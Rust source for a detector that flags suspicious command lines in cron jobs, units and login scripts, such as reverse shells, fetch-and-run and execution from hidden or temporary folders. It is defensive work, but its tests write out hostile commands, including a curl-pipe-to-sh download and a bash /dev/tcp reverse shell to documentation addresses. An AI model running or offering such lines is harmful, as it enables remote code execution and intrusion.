//! What a line that is run by itself (cron, a unit, a login script) does that such a line should not.

use std::sync::LazyLock;

use model::{Indicator, IndicatorKind, Severity, Weight};
use regex::Regex;

use super::{fetch, reverse};
use crate::detectors::{Match, Sample};

/// Hidden folders that honest tools run from.
const HIDDEN_BUT_KNOWN: &[&str] = &[
    "acme.sh",
    "asdf",
    "bashrc",
    "bash_aliases",
    "bash_completion",
    "bash_logout",
    "bash_profile",
    "bun",
    "cache",
    "cargo",
    "composer",
    "conda",
    "config",
    "deno",
    "dotnet",
    "fzf",
    "git-prompt",
    "git-completion",
    "gem",
    "ghcup",
    "go",
    "iterm2",
    "jenv",
    "krew",
    "linuxbrew",
    "local",
    "nix",
    "nix-profile",
    "npm",
    "npm-global",
    "nvm",
    "oh-my-zsh",
    "opam",
    "pdm",
    "phpbrew",
    "poetry",
    "profile",
    "pyenv",
    "rbenv",
    "rvm",
    "sdkman",
    "ssh",
    "volta",
    "yarn",
    "zprofile",
    "zshrc",
    "zshenv",
    "kube",
    "docker",
    "sh",
    "secrets",
    "venv",
    "virtualenvs",
    "env",
    "dircolors",
    "inputrc",
    "X",
    "xsession",
    "xprofile",
    "gvm",
    "luarocks",
    "cabal",
    "rustup",
    "mozilla",
    "themes",
    "fonts",
    "pip",
];

static TEMPORARY: LazyLock<Regex> =
    LazyLock::new(|| regex(r"(?:^|[\s;&|(\x22'=@-])(/(?:(?:var/)?tmp|dev/shm|run/shm)/[^\s;&|)\x22'<>]+)"));
static HIDDEN: LazyLock<Regex> =
    LazyLock::new(|| regex(r"(?:^|[\s;&|(\x22'=@-])(/[^\s;&|)\x22'<>]*?/\.([A-Za-z0-9_][\w.-]*)[^\s;&|)\x22'<>]*)"));
static FETCHES: LazyLock<Regex> =
    LazyLock::new(|| regex(r"(?:curl|wget)\s[^\n|;&]*(?:-o|-O|>)\s*[\x22']?(?:/(?:var/)?tmp/|/dev/shm/|/[^\s]*/\.\w)"));
static TEST: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r"(?:\[\[?\s|\btest\s|\brm\s|\bfind\s|\bmkdir\s|\btouch\s|\bchmod\s|\bchown\s|\bcat\s|\btmpreaper\s|\bls\s|\binstall\s|\bflock\s|-f\s|-d\s|-e\s|>\s?|\bcd\s)[^;&|]*$",
    )
});

fn regex(pattern: &str) -> Regex {
    Regex::new(pattern).expect("the pattern is a constant, and a test runs it")
}

/// What is wrong with a line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Suspicion {
    /// In words.
    pub(crate) what: String,
    /// What it counts for.
    pub(crate) weight: Weight,
    /// Where it reaches to.
    pub(crate) indicators: Vec<Indicator>,
}

/// Judges one command line. None for all that ordinary packages ship.
pub(crate) fn suspicion(command: &str) -> Option<Suspicion> {
    if let Some(shell) = reverse::find(command).into_iter().find(|shell| shell.host_kind() != super::Host::Placeholder)
    {
        let value = format!("{}:{}", shell.host, shell.port);
        let what = format!("{} to {value}", shell.form);
        return Some(Suspicion {
            what,
            weight: Weight::Proof,
            indicators: vec![Indicator { kind: IndicatorKind::Address, value }],
        });
    }
    if let Some(run) = fetch::runs(command) {
        let weight = if run.strong.is_empty() { Weight::Sign } else { Weight::Proof };
        let verb = if run.host.is_some() { "fetches and runs" } else { "decodes and runs" };
        let what = format!("{verb} {} {}", run.source, run.reasons());
        return Some(Suspicion {
            what: what.trim_end().to_owned(),
            weight,
            indicators: run.indicator().into_iter().collect(),
        });
    }
    let sign = |what: String, weight| Some(Suspicion { what, weight, indicators: Vec::new() });
    if let Some(found) = FETCHES.find(command) {
        return sign(
            format!("fetches into a temporary or hidden place: {}", model::text::shortened(found.as_str(), 120)),
            Weight::Sign,
        );
    }
    for found in TEMPORARY.captures_iter(command) {
        let Some(path) = found.get(1) else { continue };
        if !runs_at(command, path.start()) {
            continue;
        }
        let hidden = path.as_str().contains("/.") || path.as_str().contains("/shm/");
        return sign(
            format!("runs {} from a temporary folder", path.as_str()),
            if hidden { Weight::Proof } else { Weight::Sign },
        );
    }
    for found in HIDDEN.captures_iter(command) {
        let (Some(path), Some(name)) = (found.get(1), found.get(2)) else { continue };
        let known = HIDDEN_BUT_KNOWN.iter().any(|known| name.as_str().starts_with(known));
        if !known && runs_at(command, path.start()) {
            return sign(format!("runs {} from a hidden place", path.as_str()), Weight::Sign);
        }
    }
    None
}

/// Most matches reported of one file.
const MATCHES_MAX: usize = 8;
/// Most lines looked at in one file.
const LINES_MAX: usize = 4096;
/// Longest part of a line that is looked at.
const LINE_BYTES_MAX: usize = 4096;

/// The suspicions of a file's lines, comments left out. `command` gives the part of a line that is run.
pub(crate) fn lines(sample: &Sample<'_>, usual: Weight, command: fn(&str) -> Option<&str>) -> Vec<Match> {
    let mut found: Vec<Match> = Vec::new();
    let mut offset = 0;
    for line in sample.bytes.split(|byte| *byte == b'\n').take(LINES_MAX) {
        let start = offset;
        offset += line.len() + 1;
        let line = String::from_utf8_lossy(line.get(..LINE_BYTES_MAX).unwrap_or(line));
        // Only what cron, systemd and shells take for a comment: `* * * * *` begins a line of a crontab, and
        // `//bin/sh` is a path.
        if line.trim_start().starts_with(['#', ';']) {
            continue;
        }
        let Some(suspicion) = command(line.trim()).and_then(suspicion) else { continue };
        let mut one = Match::new(suspicion.what, start);
        one.indicators = suspicion.indicators;
        if suspicion.weight != usual {
            one.weight = Some(suspicion.weight);
            one.severity = Some(Severity::Medium);
        }
        found.push(one);
        if found.len() == MATCHES_MAX {
            break;
        }
    }
    found
}

/// Whether the path at `start` is in command position: first word, or first after a shell, an interpreter or a separator.
fn runs_at(command: &str, start: usize) -> bool {
    let before = command.get(..start).unwrap_or_default();
    if TEST.is_match(before) {
        return false;
    }
    let piece = before.rsplit([';', '&', '|', '(', '`']).next().unwrap_or_default();
    let mut words = piece.split_ascii_whitespace().map(|word| word.trim_matches(['"', '\'', '@', '-', '+', '!', ':']));
    words.all(|word| {
        matches!(
            word.rsplit('/').next().unwrap_or_default(),
            "" | "sh"
                | "bash"
                | "dash"
                | "zsh"
                | "python"
                | "python3"
                | "perl"
                | "php"
                | "nohup"
                | "setsid"
                | "exec"
                | "sudo"
                | "env"
                | "nice"
                | "ionice"
                | "then"
                | "do"
                | "c"
                | "q"
                | "root"
                | "source"
                | "."
        )
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(command: &str, expected: Option<(Weight, &str)>) {
        let found = suspicion(command);
        assert_eq!(found.as_ref().map(|found| (found.weight, found.what.as_str())), expected, "{command}");
    }

    #[test]
    fn lines_that_should_not_run_by_themselves() {
        check(
            "curl -fsSL http://198.51.100.7/i.sh | sh",
            Some((Weight::Proof, "fetches and runs http://198.51.100.7/i.sh from a bare address")),
        );
        check("/tmp/.x/kworker", Some((Weight::Proof, "runs /tmp/.x/kworker from a temporary folder")));
        check("sh /var/tmp/update.sh", Some((Weight::Sign, "runs /var/tmp/update.sh from a temporary folder")));
        check("/usr/lib/.cache-d/run", None);
        check(
            "/usr/lib/.systemd-private/run",
            Some((Weight::Sign, "runs /usr/lib/.systemd-private/run from a hidden place")),
        );
        check(
            "bash -i >& /dev/tcp/198.51.100.9/443 0>&1",
            Some((Weight::Proof, "bash over /dev/tcp to 198.51.100.9:443")),
        );
    }

    #[test]
    fn ordinary_lines_are_nothing() {
        for command in [
            "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
            "find /tmp/cache -mtime +7 -delete",
            "[ -f /tmp/.lock ] && exit 0",
            "\"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > /dev/null",
            "rm -rf /tmp/.X11-unix",
            ". \"$HOME/.cargo/env\"",
            "/usr/bin/certbot -q renew",
            "pg_dump db > /tmp/db.sql",
        ] {
            check(command, None);
        }
    }
}
